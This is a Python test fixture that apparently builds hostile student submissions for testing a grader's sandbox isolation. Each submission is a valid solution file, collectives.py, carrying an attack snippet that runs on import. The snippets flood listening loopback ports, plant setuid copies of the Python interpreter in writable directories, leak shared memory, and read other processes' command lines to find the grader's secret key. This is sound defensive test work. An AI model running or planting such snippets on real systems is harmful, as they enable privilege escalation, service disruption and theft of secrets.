"""Hostile students of assignment 1 that attack *other* sandboxes (issue 15), for
``tests/grader/batches/test_hostile.py``.

Each is the solution (so it scores full itself when the attack is harmless) plus a snippet run
when ``collectives.py`` is imported; the snippets use ``subprocess`` (allowed in a1) to run shell
or Python code, so the intake check has nothing to refuse (``open`` in the student file itself
would be refused: the file work happens in a child). Each prints a line starting with its name
that says what it did, which the grader keeps in the output of ``results.json``:

* ``net_snoop``: for ~20 s, reads ``/proc/net/tcp`` and ``tcp6`` for loopback ports in LISTEN
  and writes garbage into each (the other slot's torch TCPStore, md.launch's sockets);
* ``setuid_plant``: copies the Python interpreter into ``/run/lock`` and every world-writable
  directory it finds, sets its setuid bit and writes a marker file beside it;
* ``sysv_shm``: once per sandbox, creates 8 System V shared memory segments of 64 MiB
  (``shmget``/``shmat`` through ctypes, in a ``python3 -c`` child), touches and detaches them,
  never removes them; at every import it reports the segments its sandbox holds (``cat
  /proc/sysvipc/shm``: 8, 512 MiB, for the whole run). Only once: run at every
  import (the probe, each worker of each test), the segments it never removes would pile up to
  gigabytes and meet the sandbox's memory limit, which is not what this attack is about;
* ``cmdline_spy``: lists the command line of every process it can see (``/proc/*/cmdline``, read
  by ``sh``), prints them and a count, and raises at import (status ``import_error``) when one of
  them is the grader's (``grader grade`` or ``seed-key`` in it).

``build(OUT)`` writes them (and ``alice``, the solution) as folders ``OUT/<name>/collectives.py``.
"""

from __future__ import annotations

from pathlib import Path

from grader.examples import common
from grader.examples.a1_collectives.resources import beside_alice

MARKER = "minidist-isolation-attack"  # in every file the attackers plant

NET_SNOOP = '''
_subprocess.Popen([_sys.executable, "-c", """
import socket, time
end, ports, hits = time.time() + 20, set(), 0
while time.time() < end:
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            rows = open(table).read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            local, state = row.split()[1], row.split()[3]
            if state != "0A":  # LISTEN
                continue
            port = int(local.rsplit(":", 1)[1], 16)
            ports.add(port)
            host = "::1" if table.endswith("6") else "127.0.0.1"
            try:
                with socket.create_connection((host, port), timeout=0.2) as s:
                    s.sendall(b"\\\\xff" * 4096)
                    hits += 1
            except OSError:
                pass
    time.sleep(0.05)
"""], start_new_session=True, stdin=_QUIET, stdout=_QUIET, stderr=_QUIET)
print("net_snoop: writing into every listening loopback port for 20 s", file=_sys.stderr, flush=True)
'''

SETUID_PLANT = f'''
_planted = _subprocess.run(["/bin/sh", "-c", r"""
for d in /run/lock /var/lock /dev/mqueue /run/* /var/* /* ; do
  if [ -d "$d" ] && [ -w "$d" ]; then
    cp "$PY" "$d/.{MARKER}-py" 2>/dev/null && chmod u+s "$d/.{MARKER}-py" 2>/dev/null
    echo planted > "$d/.{MARKER}" 2>/dev/null && echo "$d"
  fi
done
true
"""], env={{"PY": _sys.executable}}, capture_output=True, text=True, timeout=30).stdout.split()
print("setuid_plant: planted in", len(_planted), "directories:", *_planted, file=_sys.stderr, flush=True)
'''

SYSV_SHM = """
if _first_time(".sysv_shm"):
    _subprocess.run([_sys.executable, "-c", '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
libc.shmdt.argtypes = (ctypes.c_void_p,)
for _ in range(8):
    ident = libc.shmget(0, 64 << 20, 0o1000 | 0o666)  # IPC_PRIVATE, IPC_CREAT
    if ident < 0:
        break
    address = libc.shmat(ident, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        continue
    ctypes.memset(address, 1, 64 << 20)  # touched: its pages exist (and are charged)
    libc.shmdt(address)
'''], timeout=60)
# at every import (the probe's output is not kept; the workers' is): what this sandbox holds now
_rows = _subprocess.run(["cat", "/proc/sysvipc/shm"], capture_output=True, text=True, timeout=30).stdout
_sizes = [int(_row.split()[3]) for _row in _rows.splitlines()[1:]]
print(f"sysv_shm: {len(_sizes)} segments, {sum(_sizes) >> 20} MiB held", file=_sys.stderr, flush=True)
"""

CMDLINE_SPY = r"""
_seen = _subprocess.run(
    ["/bin/sh", "-c", 'for f in /proc/[0-9]*/cmdline; do tr "\\0" " " < "$f"; echo; done'],
    capture_output=True, text=True, timeout=30,
).stdout.splitlines()
for _line in _seen:
    print("cmdline_spy saw:", _line[:100], file=_sys.stderr)
_leaks = [_line for _line in _seen if "seed-key" in _line or "grader grade" in _line]
print(f"cmdline_spy: {len(_seen)} command lines, {len(_leaks)} of the grader", file=_sys.stderr, flush=True)
if _leaks:  # the grader's command line (and its seed key) reached this sandbox: show it
    raise RuntimeError("cmdline_spy found the grader's command line: " + " | ".join(_leaks))
"""

#: name -> snippet (after ``resources.ONCE``, which imports ``os``, ``subprocess``, ``sys``, and
#: defines ``_first_time`` and ``_QUIET``)
ATTACKERS = {
    "net_snoop": NET_SNOOP,
    "setuid_plant": SETUID_PLANT,
    "sysv_shm": SYSV_SHM,
    "cmdline_spy": CMDLINE_SPY,
}


def build_dict() -> dict[str, dict[str, bytes]]:
    """``alice`` (the solution) and one submission per attacker, as {student: {file: bytes}}."""
    return beside_alice(ATTACKERS)


def build(out: Path) -> list[Path]:
    return common.write(out, build_dict())


if __name__ == "__main__":
    common.main(__doc__, build)
